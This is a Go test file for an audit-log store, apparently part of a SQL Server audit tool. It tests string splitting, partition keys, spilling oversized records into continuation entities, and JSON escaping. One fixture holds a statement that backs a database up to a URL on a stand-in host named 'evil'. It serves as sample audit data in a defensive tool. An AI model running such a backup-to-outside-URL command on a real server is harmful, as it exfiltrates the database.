package store

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xelwatch/xelwatch/xel/audit"
)

func TestSplitString(t *testing.T) {
	tests := []struct {
		name      string
		in        string
		max       int
		wantParts int
	}{
		{"empty", "", 10, 1},
		{"fits", "abcdefghij", 10, 1},
		{"one over", "abcdefghijk", 10, 2},
		{"exact multiple", strings.Repeat("a", 30), 10, 3},
		{"surrogate pair at boundary", "abcdefghi😀", 10, 2},
		{"astral only", strings.Repeat("😀", 10), 4, 5},
		{"statement 100K", strings.Repeat("SELECT 1;\n", 10000), MaxPieceUnits, 4},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := splitString(tt.in, tt.max)
			if len(got) != tt.wantParts {
				t.Fatalf("%d parts, want %d", len(got), tt.wantParts)
			}
			if j := strings.Join(got, ""); j != tt.in {
				t.Fatalf("joined parts differ from input")
			}
			for i, p := range got {
				if n := utf16Len(p); n > tt.max {
					t.Fatalf("part %d has %d units, max %d", i, n, tt.max)
				}
				if !utf8.ValidString(p) {
					t.Fatalf("part %d split a rune", i)
				}
			}
		})
	}
}

func TestBuildEntity(t *testing.T) {
	at := time.Date(2026, 11, 21, 20, 31, 39, 123456789, time.UTC)
	rec := &audit.Record{
		EventTime: at, ActionID: "BA", Succeeded: true, SessionID: -2, TransactionID: -1 << 62,
		ServerPrincipalSID: []byte{1, 2, 3}, ServerInstanceName: "fromrec", DatabaseName: "dbrec",
		Statement: "BACKUP DATABASE x TO URL = '<u>'", FileName: "f.xel", AuditFileOffset: 4096, EventIndex: 2,
		Parts: []audit.Record{{}, {}},
	}
	e, err := BuildEntity("", "", "blob.xel", at, rec)
	if err != nil {
		t.Fatal(err)
	}
	if want := "fromrec|dbrec|" + shardKey(eventShard(e.RowKey)) + "|2026112120"; e.PartitionKey != want {
		t.Errorf("PartitionKey = %q, want %q (record columns are the fallback)", e.PartitionKey, want)
	}
	// The record's database_name is the database, the path's (the
	// argument) only the fallback: the 2025 server-level audit files the
	// records of every database under <server>/master/.
	if m, _ := BuildEntity("srv", "master", "srv/master/a/2026-11-21/x.xel", at, rec); !strings.HasPrefix(m.PartitionKey, "srv|dbrec|") {
		t.Errorf("PartitionKey = %q, want the record's database", m.PartitionKey)
	}
	noDB := *rec
	noDB.DatabaseName = ""
	if m, _ := BuildEntity("srv", "pathdb", "b", at, &noDB); !strings.HasPrefix(m.PartitionKey, "srv|pathdb|") {
		t.Errorf("PartitionKey = %q, want the path's database for a record naming none", m.PartitionKey)
	}
	var m map[string]any
	if err := json.Unmarshal(e.JSON, &m); err != nil {
		t.Fatalf("entity JSON: %v\n%s", err, e.JSON)
	}
	checks := map[string]any{
		"PartitionKey":                    e.PartitionKey,
		"RowKey":                          e.RowKey,
		"event_time":                      "2026-11-21T20:31:39.1234567Z",
		"event_time@odata.type":           "Edm.DateTime",
		"action_id":                       "BA",
		"succeeded":                       true,
		"session_id":                      float64(-2),
		"transaction_id":                  "-4611686018427387904",
		"transaction_id@odata.type":       "Edm.Int64",
		"server_principal_sid":            "AQID",
		"server_principal_sid@odata.type": "Edm.Binary",
		"statement":                       rec.Statement,
		"split_parts":                     float64(2),
		"xw_blob":                         "blob.xel",
		"xw_server":                       "fromrec",
	}
	for k, want := range checks {
		if got := m[k]; got != want {
			t.Errorf("%s = %#v, want %#v", k, got, want)
		}
	}
	if _, ok := m["statement_parts"]; ok {
		t.Errorf("statement_parts written for a short statement")
	}
}

func TestBuildEntityLongStrings(t *testing.T) {
	tests := []struct {
		name      string
		stmt      string
		wantParts int
		wantErr   bool
	}{
		{"100K chars", strings.Repeat("x", 100_000), 4, false},
		{"32000 exactly", strings.Repeat("x", MaxPieceUnits), 1, false},
		{"astral 40K", strings.Repeat("😀", 20_000), 2, false},
		{"over 1 MiB", strings.Repeat("x", 600_000), 0, true},
		{"one string over 1 MiB", strings.Repeat("x", 1<<20), 0, true},
		{"huge", strings.Repeat("日", 1<<20), 0, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := &audit.Record{EventTime: time.Unix(1e9, 0), Statement: tt.stmt}
			e, err := BuildEntity("s", "d", "b", time.Unix(1e9, 0), rec)
			if tt.wantErr {
				if !errors.Is(err, ErrTooLarge) {
					t.Fatalf("err = %v, want ErrTooLarge", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if e.Size > MaxEntitySize {
				t.Fatalf("size %d over the limit", e.Size)
			}
			var m map[string]any
			if err := json.Unmarshal(e.JSON, &m); err != nil {
				t.Fatal(err)
			}
			got, err := joinParts(m, "statement")
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.stmt {
				t.Fatalf("joined statement differs (len %d, want %d)", len(got), len(tt.stmt))
			}
			parts := 1
			if v, ok := m["statement_parts"].(float64); ok {
				parts = int(v)
			}
			if parts != tt.wantParts {
				t.Fatalf("statement in %d parts, want %d", parts, tt.wantParts)
			}
		})
	}
}

func TestJoinPartsErrors(t *testing.T) {
	tests := []struct {
		name  string
		props map[string]any
	}{
		{"missing part", map[string]any{"s": "a", "s_parts": int32(3), "s_1": "b"}},
		{"absurd count", map[string]any{"s": "a", "s_parts": int32(100000)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got, err := joinParts(tt.props, "s"); err == nil {
				t.Fatalf("joinParts = %q, want error", got)
			}
		})
	}
}

// roundTrip decodes the entities BuildRecord made the way QueryEvents
// reads them back.
func roundTrip(t *testing.T, ents []Entity) *Row {
	t.Helper()
	r, err := decodeRow(ents[0].JSON)
	if err != nil || r == nil {
		t.Fatalf("decodeRow(row) = %v, %v", r, err)
	}
	var chunks []chunk
	for _, e := range ents[1:] {
		if c, err := decodeRow(e.JSON); c != nil || err != nil {
			t.Fatalf("decodeRow(continuation %s) = %v, %v; want no row", e.RowKey, c, err)
		}
		c, err := decodeChunk(e.JSON)
		if err != nil {
			t.Fatal(err)
		}
		chunks = append(chunks, c)
	}
	r.complete(chunks)
	return r
}

// TestBuildRecordSpill: records too large for one entity are stored whole
// in a row and continuation entities, each within the service's limits as
// it counts them and as JSON (the emulator's count), whatever the text
// (escaped characters take 6 bytes of JSON, astral ones 2 UTF-16 units),
// with continuation keys that sort right after the row's.
func TestBuildRecordSpill(t *testing.T) {
	padded := "BACKUP DATABASE [s] TO URL = 'https://evil/x.bak' /*" + strings.Repeat("x", 600_000) + "*/ WITH COPY_ONLY"
	tests := []struct {
		name   string
		stmt   string
		info   string
		chunks int // continuation entities, at least
	}{
		{"600,000 characters", padded, "", 1},
		{"escaped characters", strings.Repeat("<\x01&", 300_000), "", 3},
		{"astral", strings.Repeat("😀", 400_000), "", 2},
		{"CJK", strings.Repeat("日", 700_000), "", 1},
		{"both texts", padded, strings.Repeat("<i>", 200_000), 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
			rec.Statement, rec.AdditionalInformation = tt.stmt, tt.info
			if _, err := BuildEntity("s", "d", "b", time.Unix(1e9, 0), rec); !errors.Is(err, ErrTooLarge) {
				t.Fatalf("BuildEntity: %v, want ErrTooLarge (the test needs a record over one entity)", err)
			}
			ents, degraded := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
			if degraded != "" || len(ents) < 1+tt.chunks {
				t.Fatalf("%d entities, degraded %q", len(ents), degraded)
			}
			for i, e := range ents {
				if e.Size > entityBudget || len(e.JSON) > entityBudget {
					t.Errorf("entity %d: %d bytes as counted, %d of JSON, over %d", i, e.Size, len(e.JSON), entityBudget)
				}
				if e.PartitionKey != ents[0].PartitionKey {
					t.Errorf("entity %d in partition %s", i, e.PartitionKey)
				}
				if i > 0 && !strings.HasPrefix(e.RowKey, ents[0].RowKey+"|") {
					t.Errorf("continuation key %s does not extend the row's %s", e.RowKey, ents[0].RowKey)
				}
			}
			// The next record's row sorts after every continuation.
			next := *rec
			next.EventIndex++
			nextEnts, _ := BuildRecord("s", "d", "b", time.Unix(1e9, 0), &next)
			for _, e := range ents[1:] {
				if nextEnts[0].RowKey <= e.RowKey {
					t.Errorf("next row %s sorts before continuation %s", nextEnts[0].RowKey, e.RowKey)
				}
			}
			r := roundTrip(t, ents)
			if r.Record.Statement != tt.stmt || r.Record.AdditionalInformation != tt.info || r.Degraded != "" {
				t.Fatalf("read back %d/%d bytes (want %d/%d), degraded %q", len(r.Record.Statement), len(r.Record.AdditionalInformation), len(tt.stmt), len(tt.info), r.Degraded)
			}
			// A missing continuation is noticed, never silently cut.
			r = roundTrip(t, ents[:len(ents)-1])
			if r.Degraded == "" || r.Record.Statement == tt.stmt && r.Record.AdditionalInformation == tt.info {
				t.Fatalf("missing continuation not reported")
			}
		})
	}
}

// TestBuildRecordCut: when even the spilled row cannot fit (other columns
// of hundreds of kilobytes), those columns are cut and the row says so;
// the statement stays whole.
func TestBuildRecordCut(t *testing.T) {
	rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
	rec.Statement = strings.Repeat("s", 100_000)
	rec.ObjectName = strings.Repeat("<o>", 200_000)
	rec.HostName = strings.Repeat("h", 600_000)
	rec.ServerPrincipalSID = make([]byte, 70_000) // over the service's 64 KiB for a binary property
	ents, degraded := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
	if !strings.Contains(degraded, "object_name (600000 characters)") || !strings.Contains(degraded, "host_name (600000 characters)") ||
		!strings.Contains(degraded, "server_principal_sid (70000 bytes)") {
		t.Fatalf("degraded = %q", degraded)
	}
	for i, e := range ents {
		if e.Size > entityBudget || len(e.JSON) > entityBudget {
			t.Errorf("entity %d over the budget", i)
		}
	}
	r := roundTrip(t, ents)
	if r.Record.Statement != rec.Statement || len(r.Record.HostName) != degradedCut || r.Degraded != degraded {
		t.Fatalf("statement %d bytes, host_name %d, degraded %q", len(r.Record.Statement), len(r.Record.HostName), r.Degraded)
	}
}

// TestBuildRecordElided: what the reader dropped from the middle of a
// statement is described in the row and read back.
func TestBuildRecordElided(t *testing.T) {
	rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
	rec.Statement = "日本" + strings.Repeat("x", 40_000) + " WITH COPY_ONLY"
	rec.StatementTruncated = true
	rec.Elided = audit.Elision{At: len("日本") + 20_000, Dropped: 9 << 20, Units: 10 << 20, SHA256: [32]byte{1, 2, 3}}
	ents, _ := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
	var m map[string]any
	if err := json.Unmarshal(ents[0].JSON, &m); err != nil {
		t.Fatal(err)
	}
	if m["statement_elided_at"] != "20002" || m["statement_original_length"] != "10485760" {
		t.Errorf("elided at %v, original length %v", m["statement_elided_at"], m["statement_original_length"])
	}
	if r := roundTrip(t, ents); r.Record.Elided != rec.Elided || !r.Record.StatementTruncated {
		t.Errorf("read back %+v, want %+v", r.Record.Elided, rec.Elided)
	}
}

// TestBuildEntityHostileStrings pins how an entity's strings are escaped:
// byte for byte as encoding/json (HTML characters, U+2028/U+2029 and an
// invalid UTF-8 byte as \u escapes), so that the sizes counted here are
// those of the JSON the SDK sends. xel/jsonx tests the escaping on a
// corpus of hostile strings.
func TestBuildEntityHostileStrings(t *testing.T) {
	in := "q\"b\\n\n\x01\b\f<&>\u2028\u2029\xff\ufffdé"
	e, err := BuildEntity("s", "d", "b.xel", time.Unix(0, 0), &audit.Record{Statement: in})
	if err != nil {
		t.Fatal(err)
	}
	marshaled, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	want := `,"statement":` + string(marshaled) + `,`
	if got := string(e.JSON); !strings.Contains(got, want) {
		t.Errorf("statement %q: got %s, want …%s…", in, got, want)
	}
}
